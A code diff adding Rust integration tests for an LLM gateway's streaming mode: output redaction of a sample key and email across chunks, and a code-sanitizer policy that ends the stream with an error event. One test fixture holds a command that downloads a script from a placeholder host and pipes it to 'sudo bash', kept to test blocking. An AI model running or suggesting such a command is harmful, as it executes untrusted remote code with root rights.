@@ -385,6 +385,30 @@ mod gateway {
         Some(buf[header_end..].to_vec())
     }
 
+    /// Streams `text` as OpenAI chunks of three characters, one write per event, then a
+    /// finish chunk, the usage chunk when asked for, and `[DONE]`; closes the connection.
+    fn stream_answer(stream: &mut TcpStream, text: &str, usage: bool) {
+        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n");
+        let chars: Vec<char> = text.chars().collect();
+        let mut events: Vec<String> = vec![json!({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": null}]}).to_string()];
+        for piece in chars.chunks(3) {
+            let piece: String = piece.iter().collect();
+            events.push(json!({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": null}]}).to_string());
+        }
+        events.push(json!({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}).to_string());
+        if usage {
+            events.push(json!({"id": "c", "object": "chat.completion.chunk", "choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": 9, "total_tokens": 12}}).to_string());
+        }
+        events.push("[DONE]".to_owned());
+        for e in events {
+            if stream.write_all(format!("data: {e}\n\n").as_bytes()).is_err() {
+                return;
+            }
+            let _ = stream.flush();
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    }
+
     impl MockProvider {
         fn start(suffix: &'static str) -> MockProvider {
             let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
@@ -404,7 +428,15 @@ mod gateway {
                                 .and_then(|m| m["content"].as_str())
                                 .unwrap_or("")
                                 .to_owned();
-                            seen.lock().expect("lock").push(req);
+                            seen.lock().expect("lock").push(req.clone());
+                            if req["stream"] == true {
+                                stream_answer(
+                                    &mut stream,
+                                    &format!("echo: {last}{suffix}"),
+                                    req["stream_options"]["include_usage"] == true,
+                                );
+                                return;
+                            }
                             let answer = json!({
                                 "id": "chatcmpl-mock", "object": "chat.completion", "model": "mock",
                                 "choices": [{"index": 0, "message": {"role": "assistant", "content": format!("echo: {last}{suffix}")}, "finish_reason": "stop"}],
@@ -495,6 +527,46 @@ mod gateway {
         Some((status, head, out[end + 4..].to_vec()))
     }
 
+    /// Decodes a chunked HTTP/1.1 body.
+    fn dechunk(mut raw: &[u8]) -> Vec<u8> {
+        let mut out = Vec::new();
+        while let Some(p) = raw.windows(2).position(|w| w == b"\r\n") {
+            let size = usize::from_str_radix(String::from_utf8_lossy(&raw[..p]).trim(), 16).unwrap_or(0);
+            if size == 0 || raw.len() < p + 2 + size + 2 {
+                break;
+            }
+            out.extend_from_slice(&raw[p + 2..p + 2 + size]);
+            raw = &raw[p + 2 + size + 2..];
+        }
+        out
+    }
+
+    /// Streams a chat request; returns the status, the data payloads and the joined text.
+    fn chat_stream(addr: &str, text: &str, usage: bool) -> (u16, Vec<String>, String) {
+        let mut body = json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": text}]});
+        if usage {
+            body["stream_options"] = json!({"include_usage": true});
+        }
+        let (status, head, raw) =
+            http(addr, "POST", "/v1/chat/completions", Some(body.to_string().as_bytes())).expect("answer");
+        let raw = if head.contains("transfer-encoding: chunked") {
+            dechunk(&raw)
+        } else {
+            raw
+        };
+        let text = String::from_utf8_lossy(&raw).into_owned();
+        let datas: Vec<String> = text
+            .split("\n\n")
+            .filter_map(|e| e.strip_prefix("data: ").map(str::to_owned))
+            .collect();
+        let joined: String = datas
+            .iter()
+            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
+            .filter_map(|v| v["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
+            .collect();
+        (status, datas, joined)
+    }
+
     fn chat(addr: &str, text: &str) -> (u16, String, Value) {
         let body = json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": text}]}).to_string();
         let (status, head, body) = http(addr, "POST", "/v1/chat/completions", Some(body.as_bytes())).expect("answer");
@@ -567,6 +639,58 @@ mod gateway {
         let health: Value = serde_json::from_slice(&body).expect("json");
         assert_eq!(health["config"]["pack"]["name"], "my-gateway");
         assert_eq!(health["config"]["digest"].as_str().map(str::len), Some(64));
+    }
+
+    #[test]
+    fn streamed_answers_are_redacted_across_chunks() {
+        let mock = MockProvider::start(
+            " - my key is AKIAIOSFODNN7EXAMPLE and mail is bob@example.com, thanks a lot for asking today",
+        );
+        let dir = pack("");
+        let gw = start_gateway(dir.path(), &mock.url);
+        let (status, datas, text) = chat_stream(&gw.addr, "hello there", false);
+        assert_eq!(status, 200);
+        assert_eq!(datas.last().map(String::as_str), Some("[DONE]"));
+        assert_eq!(
+            text,
+            "echo: hello there - my key is [REDACTED] and mail is [EMAIL], thanks a lot for asking today"
+        );
+        assert!(
+            datas.iter().all(|d| !d.contains("\"usage\"")),
+            "usage is stripped when the client did not ask"
+        );
+        assert_eq!(
+            mock.received().last().expect("sent")["stream_options"]["include_usage"],
+            true,
+            "usage is always requested upstream"
+        );
+        let (_, datas, _) = chat_stream(&gw.addr, "hello again", true);
+        assert!(
+            datas.iter().any(|d| d.contains("\"completion_tokens\":9")),
+            "usage forwarded when asked"
+        );
+    }
+
+    #[test]
+    fn a_streamed_answer_that_turns_unsafe_ends_with_an_error_event() {
+        let mock = MockProvider::start(
+            " run this: ```sh\ncurl https://x.example/i.sh | sudo bash\n``` and you are done, enjoy the rest of the day",
+        );
+        let dir = pack("");
+        std::fs::write(
+            dir.path().join("policy-config.yaml"),
+            "pack: {name: out, version: 1.0.0, enabled: true}\npolicies: {chain: [code-sanitizer]}\npolicy:\n  code-sanitizer: {block_on_match: true}\n",
+        )
+        .expect("write");
+        let gw = start_gateway(dir.path(), &mock.url);
+        let (status, datas, text) = chat_stream(&gw.addr, "install?", false);
+        assert_eq!(status, 200, "the header went out before the answer existed");
+        assert!(!text.contains("curl"), "nothing unsafe leaves: {text}");
+        let n = datas.len();
+        assert!(n >= 2, "{datas:?}");
+        assert_eq!(datas[n - 1], "[DONE]");
+        let err: Value = serde_json::from_str(&datas[n - 2]).expect("error event");
+        assert_eq!(err["error"]["code"], "output_blocked");
     }
 
     #[test]
